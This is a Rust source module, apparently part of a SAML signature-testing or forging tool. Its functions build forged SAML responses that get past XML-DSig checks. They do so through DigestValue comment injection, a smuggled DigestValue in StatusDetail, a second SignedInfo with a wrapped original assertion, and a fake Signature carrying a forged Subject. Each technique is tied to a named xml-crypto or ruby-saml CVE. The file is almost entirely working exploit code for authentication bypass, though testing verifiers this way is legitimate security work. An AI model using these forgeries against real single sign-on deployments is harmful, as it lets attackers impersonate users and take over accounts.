//! XML-DSig internals: where verifiers read the digest or the SignedInfo from.

use crate::bytes::{after_start_tag, before_end_tag, child, insert, Doc, Edits};
use crate::crypto::{reference_digest, seed_digest_method, signed_info};
use crate::family::{evil_id, forged, Parts};
use crate::forge::{Forge, Forged, Skip};
use crate::identity;
use saml_protocol::{ASSERTION_NS, DSIG_NS, PROTOCOL_NS};

const PLACEHOLDER: &str = "FORGED_DIGEST_PLACEHOLDER";

/// The Assertion forged in place (Signature kept); `extra` adds edits; then `PLACEHOLDER`
/// becomes the digest of the forged Assertion (whose ID is then `id`).
fn with_forged_digest(
    f: &Forge,
    extra: &dyn Fn(&Parts) -> Result<Edits, Skip>,
    id: &dyn Fn(&Parts) -> String,
) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let method = seed_digest_method(sig);
    let (mut edits, swap) =
        identity::rewrite_edits(&doc, p.assertion.range(), &identity::forger(&doc));
    edits.extend(extra(&p)?);
    let xml = p.splice_unsigned_response(edits);
    let digest = reference_digest(&xml, &id(&p), method)?;
    forged(xml.replace(PLACEHOLDER, &digest), swap)
}

/// `<DigestValue><!--H(forged)-->H(original)</DigestValue>` (xml-crypto CVE-2025-29775).
pub fn comment_in_digest_value(f: &Forge) -> Result<Forged, Skip> {
    with_forged_digest(
        f,
        &|p| {
            let dv = p
                .assertion_sig
                .and_then(|s| {
                    s.descendants()
                        .find(|n| n.has_tag_name((DSIG_NS, "DigestValue")))
                })
                .ok_or_else(|| {
                    Skip::NotApplicable("the Assertion's Signature has no DigestValue".into())
                })?;
            Ok(vec![insert(
                after_start_tag(p.doc.src, dv),
                format!("<!--{PLACEHOLDER}-->"),
            )])
        },
        &|p| p.assertion_id().to_owned(),
    )
}

/// A second `ds:DigestValue` holding H(forged) earlier in document order, in StatusDetail
/// (ruby-saml CVE-2024-45409: `//ds:DigestValue` searched the whole document).
pub fn digest_value_smuggled(f: &Forge) -> Result<Forged, Skip> {
    with_forged_digest(
        f,
        &|p| {
            let status = child(p.root, PROTOCOL_NS, "Status")
                .ok_or_else(|| Skip::NotApplicable("the seed has no Status".into()))?;
            let detail = format!(
                "<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\"><ds:Reference xmlns:ds=\"{DSIG_NS}\" URI=\"#{}\"><ds:DigestValue>{PLACEHOLDER}</ds:DigestValue></ds:Reference></samlp:StatusDetail>",
                p.assertion_id()
            );
            Ok(vec![insert(before_end_tag(p.doc.src, status), detail)])
        },
        &|p| p.assertion_id().to_owned(),
    )
}

/// A second SignedInfo referencing the forged Assertion (new ID) after the original one; the
/// original Assertion kept byte-exact in a wrapper (xml-crypto CVE-2025-29774).
pub fn multiple_signed_info(f: &Forge) -> Result<Forged, Skip> {
    with_forged_digest(
        f,
        &|p| {
            let sig = p.need_assertion_sig()?;
            let si = signed_info(sig).ok_or_else(|| Skip::NotApplicable("no SignedInfo".into()))?;
            let evil = evil_id(p.assertion_id());
            let second = second_signed_info(p.doc, si, &evil)?;
            let id = crate::bytes::attr_value(p.assertion, "ID")
                .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
            Ok(vec![
                (id, evil),
                insert(si.range().end, second),
                insert(
                    before_end_tag(p.doc.src, p.root),
                    format!("<a>{}</a>", p.doc.outer(p.assertion)),
                ),
            ])
        },
        &|p| evil_id(p.assertion_id()),
    )
}

/// A copy of SignedInfo whose Reference points at `#evil`, its digest the placeholder.
fn second_signed_info(doc: &Doc, si: crate::bytes::Node, evil: &str) -> Result<String, Skip> {
    let reference = si
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
        .ok_or_else(|| Skip::NotApplicable("SignedInfo has no Reference".into()))?;
    let uri = crate::bytes::attr_value(reference, "URI")
        .ok_or_else(|| Skip::NotApplicable("the Reference has no URI".into()))?;
    let dv = reference
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "DigestValue")))
        .ok_or_else(|| Skip::NotApplicable("SignedInfo has no DigestValue".into()))?;
    let open = after_start_tag(doc.src, dv);
    let edits = vec![
        (uri, format!("#{evil}")),
        (
            open..before_end_tag(doc.src, dv).max(open),
            PLACEHOLDER.into(),
        ),
    ];
    Ok(crate::family::cut(doc.src, si.range(), edits))
}

/// A fake `ds:Signature` right after the Assertion's real one, holding a forged Subject: a
/// verifier whose enveloped transform drops every Signature inside the Assertion digests the
/// original bytes, and a reader taking the first NameID below the Assertion reads the forged
/// one (enveloped-signature over-removal).
pub fn enveloped_over_removal(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let subject = child(p.assertion, ASSERTION_NS, "Subject")
        .ok_or_else(|| Skip::NotApplicable("the Assertion has no Subject".into()))?;
    let (edits, swap) = identity::rewrite_edits(&doc, subject.range(), &identity::forger(&doc));
    if swap.forged.is_empty() {
        return Err(Skip::NotApplicable(
            "the Subject has no NameID to forge".into(),
        ));
    }
    let forged_subject = crate::family::cut(doc.src, subject.range(), edits);
    let fake = format!("<ds:Signature xmlns:ds=\"{DSIG_NS}\">{forged_subject}</ds:Signature>");
    forged(
        p.splice_unsigned_response(vec![insert(sig.range().end, fake)]),
        swap,
    )
}
